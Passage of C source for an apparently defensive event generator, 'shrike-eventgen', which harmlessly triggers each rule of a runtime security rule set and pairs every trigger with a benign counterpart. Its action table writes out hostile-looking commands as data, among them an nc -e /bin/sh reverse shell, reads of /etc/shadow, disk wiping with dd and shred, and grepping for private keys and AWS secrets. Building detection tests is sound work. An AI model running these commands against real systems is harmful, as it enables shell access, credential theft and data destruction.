	  "creates and removes shrike-eventgen-test in /usr/local/bin or /usr/bin | benign: as dpkg"),
	A(read_sensitive_file, "Read sensitive file untrusted",
	  "opens /etc/shadow for reading | benign: the same as sshd, and /etc/passwd"),
	A(clear_log, "Clear log activities",
	  "truncates /var/log/shrike-eventgen.log (O_TRUNC), removes it | benign: as logrotate"),
	A(delete_shell_history, "Delete or rename shell history",
	  "creates and deletes " WORKDIR "/.bash_history | benign: notes.txt"),
	A(modify_shell_config, "Modify shell configuration file",
	  "opens " WORKDIR "/.bashrc for writing | benign: bashrc.bak, and reads it"),
	A(symlink_sensitive, "Create symlink over sensitive files",
	  "symlinks " WORKDIR "/link to /etc/shadow | benign: to /etc/hostname"),
	A(terminal_shell, "Terminal shell in container",
	  "runs sh -c 'exit 0' with a pseudo-terminal below runc, as kubectl exec -it does "
	  "(in a container) | benign: without one"),
	A(exec_from_dev_shm, "Execution from /dev/shm",
	  "copies itself to /dev/shm and runs the copy | benign: from " WORKDIR),
	A(drop_and_execute, "Drop and execute new binary in container",
	  "copies itself to the container's overlay upper layer and runs it | benign: runs itself"),
	A(memfd_exec, "Fileless execution via memfd",
	  "copies itself into a memfd and runs it | benign: from " WORKDIR),
	A(netcat_rce, "Netcat remote code execution",
	  "runs itself as nc -e /bin/sh 127.0.0.1 4444 (exits at once) | benign: nc -z"),
	A(search_private_keys, "Search for private keys or passwords",
	  "runs itself as grep -rl 'BEGIN RSA PRIVATE KEY' (exits at once) | benign: grep TODO"),
	A(reverse_shell, "Redirect stdio to network connection",
	  "dup2 of a loopback TCP socket onto 0, 1, 2 in a child | benign: a pipe and /dev/null"),
	A(packet_socket, "Packet socket created",
	  "opens and closes an AF_PACKET socket | benign: an AF_INET one"),
	A(kernel_module, "Linux kernel module loaded",
	  "init_module of a non-module image (refused) | benign: the same by modprobe under kmod"),
	A(change_namespace, "Change namespace",
	  "setns to its own UTS namespace and unshare a new one in a child | benign: as runc"),
	A(ptrace_attach, "PTRACE attached to process",
	  "PTRACE_SEIZE of a sleeping child, then kills it | benign: as strace"),
	A(setuid_bit, "Set setuid or setgid bit",
	  "chmod 4755 of " WORKDIR "/suid-file | benign: chmod 0700"),
	A(setuid_to_root, "Setuid to root by non-root process",
	  "a child as nobody with saved uid 0 calls setuid(0) | benign: setuid(nobody)"),
	A(release_agent, "Container escape through release_agent",
	  "opens " WORKDIR
	  "/release_agent for writing (in a container) | benign: notify_on_release"),
	A(hardlink_sensitive, "Create hardlink over sensitive files",
	  "hard links " WORKDIR
	  "/hardlink to /etc/shadow, removes it | benign: to a file of its own"),
	A(ptrace_traceme, "PTRACE anti-debug attempt",
	  "a child calls ptrace(PTRACE_TRACEME) and exits | benign: the same as gdb"),
	A(remove_bulk_data, "Remove bulk data from disk",
	  "runs itself as shred -u and dd if=/dev/zero of=/dev/sdz (exit at once) | benign: mkfs "
	  "under kubelet, dd to a file"),
	A(server_shell, "Run shell untrusted",
	  "runs itself as nginx, which runs itself as sh -c id | benign: postgres archiving via sh"),
	A(system_user_interactive, "System user interactive",
	  "runs itself as sshd, a child as nobody runs itself | benign: as uid 1000"),
	A(ssh_nonstandard_port, "Disallowed SSH connection non standard port",
	  "in a network namespace of its own, runs itself as ssh to " SSH_SERVER_ADDR ":443 | "
	  "benign: port 22"),
	A(dir_traversal_read, "Directory traversal monitored file read",
	  "a child opens " WORKDIR "/../../etc/passwd | benign: /etc/passwd, a traversal to /tmp"),
	A(debugfs_privileged, "Debugfs launched in privileged container",
	  "runs itself as debugfs -w /dev/sda1 (in a privileged container) | benign: dumpe2fs"),
	A(read_sensitive_late, "Read sensitive file trusted after startup",
	  "runs itself as nginx, whose worker opens /etc/shadow | benign: /etc/passwd"),
	A(find_aws_credentials, "Find AWS credentials",
	  "runs itself as grep -ri aws_secret_access_key (exits at once) | benign: grep region"),
	A(contact_k8s_api, "Contact K8S API server from container",
	  "connects to " K8S_API_NAME ":443 (in a container; listens there if the address is "
	  "this host's) | benign: to localhost"),
};
#define NACTIONS (sizeof(actions) / sizeof(actions[0]))

static int run_action(const struct action *a, bool benign)
{
	int ret;

	say("%s%s: %s", a->name, benign ? " (benign)" : "", a->rule);
	if (workdir_enter())
		return 1;
	ret = benign ? a->benign() : a->run();
	workdir_leave();
	if (ret)
		fprintf(stderr, "%s: %s%s failed\n", prog, a->name, benign ? " (benign)" : "");
	return ret ? 1 : 0;
}

static void usage(FILE *f)
{
	fprintf(f, "Usage: shrike-eventgen [--benign] [-v] ACTION...\n"
		   "       shrike-eventgen [--benign] [-v] --all\n"
		   "       shrike-eventgen --list\n"
		   "\n"
		   "Performs, harmlessly, what each rule of rules/shrike_rules.yaml detects,\n"
		   "and cleans up after itself. Run it as root: most actions need it.\n"
		   "\n"
		   "  --list     the actions, the rule each one triggers, and what it does\n"
		   "  --all      every action, in the order of --list\n"
		   "  --benign   the benign counterpart of each action instead: no alert\n"
		   "  -v         say what runs\n");
}

int main(int argc, char **argv)
{
	bool all = false, benign = false;
	int i, ret = 0, nargs = 0;
	const char *step = getenv(STEP_ENV);
	ssize_t n;
	size_t j;

	n = readlink("/proc/self/exe", self, sizeof(self) - 1);
	if (n < 0) {
		perror("shrike-eventgen: /proc/self/exe");
		return 1;
	}
	self[n] = 0;
	if (step) {
		step_argc = argc;
		step_argv = argv;
		for (j = 0; j < sizeof(steps) / sizeof(steps[0]); j++)
			if (!strcmp(step, steps[j].name))
				return steps[j].fn() ? 1 : 0;
		fprintf(stderr, "%s: unknown step '%s'\n", prog, step);
		return 2;
	}
	for (i = 1; i < argc; i++) {
		if (!strcmp(argv[i], "--list")) {
			for (j = 0; j < NACTIONS; j++)
				printf("%-24s %s\n%-24s   %s\n", actions[j].name, actions[j].rule,
				       "", actions[j].what);
			return 0;
		} else if (!strcmp(argv[i], "--all")) {
			all = true;
		} else if (!strcmp(argv[i], "--benign")) {
			benign = true;
		} else if (!strcmp(argv[i], "-v")) {
			verbose = true;
		} else if (!strcmp(argv[i], "--help") || !strcmp(argv[i], "-h")) {
			usage(stdout);
			return 0;
		} else if (argv[i][0] == '-') {
			fprintf(stderr, "%s: unknown option '%s'\n", prog, argv[i]);
			usage(stderr);
			return 2;
		} else {
			nargs++;
		}
	}
	if (all == (nargs > 0)) {
		usage(stderr);
		return 2;
	}
	/* Names first, so that a typo runs nothing. */
	for (i = 1; i < argc; i++) {
		if (argv[i][0] == '-')
			continue;
		for (j = 0; j < NACTIONS && strcmp(argv[i], actions[j].name); j++)
			;
		if (j == NACTIONS) {
			fprintf(stderr, "%s: unknown action '%s' (see --list)\n", prog, argv[i]);
			return 2;
		}
	}
	if (all) {
		for (j = 0; j < NACTIONS; j++)
			ret |= run_action(&actions[j], benign);
		return ret;
	}
	for (i = 1; i < argc; i++) {
		if (argv[i][0] == '-')
			continue;
		for (j = 0; strcmp(argv[i], actions[j].name); j++)
			;
		ret |= run_action(&actions[j], benign);
	}
	return ret;
}
